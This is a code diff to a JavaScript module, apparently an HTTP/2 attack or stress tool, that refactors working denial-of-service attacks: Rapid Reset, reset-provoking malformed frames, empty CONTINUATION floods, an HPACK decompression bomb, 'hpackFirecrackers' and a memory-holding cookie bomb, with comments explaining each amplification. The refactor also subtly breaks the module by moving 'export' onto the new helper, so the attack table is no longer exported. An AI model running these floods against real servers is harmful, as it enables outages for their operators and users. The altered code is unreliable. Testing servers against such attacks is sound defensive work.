@@ -116,7 +116,13 @@ function indexedLiteral(name, value) {
   return Buffer.concat([Buffer.from([0x40, name.length]), Buffer.from(name), Buffer.from(length), Buffer.from(value)]);
 }
 
-export const attacks = {
+export // Requests that name with a byte each, 0xbe, a field of 3,900 bytes that the first one has put into the table.
+const bombs = (make) => flood((i) => {
+  const head = headerBlock(fields('GET', '/'));
+  return i === 0 ? frame(frameType.headers, 5, 1, Buffer.concat([head, indexedLiteral('x-bomb', 'b'.repeat(3900))])) : make(i, head);
+});
+
+const attacks = {
   rapidReset: flood((i) => times(50, (k) => Buffer.concat([get(id(i * 50 + k)), reset(id(i * 50 + k))]))),
   // plait is made to reset: a WINDOW_UPDATE of 0, one that overflows, DATA behind the end, a PRIORITY of a wrong length.
   madeYouReset: flood((i) => times(50, (k) => {
@@ -133,17 +139,9 @@ export const attacks = {
   emptyContinuations: flood((i) => (i === 0 ? frame(frameType.headers, 1, 1, headerBlock(fields('GET', '/')))
     : times(200, () => frame(frameType.continuation, 0, 1))), { acknowledges: false }),
   // One value of 3,900 bytes enters the table, then each byte names it again: 16 KB on the wire are 60 MB of fields.
-  hpackBomb: flood((i) => {
-    const head = headerBlock(fields('GET', '/'));
-    if (i === 0) return frame(frameType.headers, 5, 1, Buffer.concat([head, indexedLiteral('x-bomb', 'b'.repeat(3900))]));
-    return frame(frameType.headers, 5, id(i), Buffer.concat([head, Buffer.alloc(16_000, 0xbe)]));
-  }),
+  hpackBomb: bombs((i, head) => frame(frameType.headers, 5, id(i), Buffer.concat([head, Buffer.alloc(16_000, 0xbe)]))),
   // 236 KB each: too much for a request, too little to be worth the connection.
-  hpackFirecrackers: flood((i) => {
-    const head = headerBlock(fields('GET', '/'));
-    if (i === 0) return frame(frameType.headers, 5, 1, Buffer.concat([head, indexedLiteral('x-bomb', 'b'.repeat(3900))]));
-    return times(20, (k) => frame(frameType.headers, 5, id(i * 20 + k), Buffer.concat([head, Buffer.alloc(60, 0xbe)])));
-  }),
+  hpackFirecrackers: bombs((i, head) => times(20, (k) => frame(frameType.headers, 5, id(i * 20 + k), Buffer.concat([head, Buffer.alloc(60, 0xbe)])))),
   // Requests within every limit, each of 30 KB out of 150 bytes, whose responses are not taken: they hold what they can.
   cookieBomb: async (options) => {
     const connection = await h2(options, settings([4, 0]));
